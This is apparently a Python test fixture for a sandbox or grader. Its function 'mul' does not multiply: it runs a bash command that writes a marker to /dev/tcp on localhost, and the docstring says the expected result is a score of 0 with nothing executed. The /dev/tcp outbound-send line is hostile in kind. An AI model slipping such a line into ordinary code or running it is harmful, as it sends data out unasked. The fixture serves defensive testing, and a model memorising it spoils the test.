# mypy: ignore-errors
# ruff: noqa
"""Has a shell open the connection.

Class: sending
Act: in mul
Expected: score 0; nothing is executed
"""

import os


def mul(a, b):
    os.system("bash -c 'echo @MARKER@ > /dev/tcp/127.0.0.1/@PORT@' 2>/dev/null")
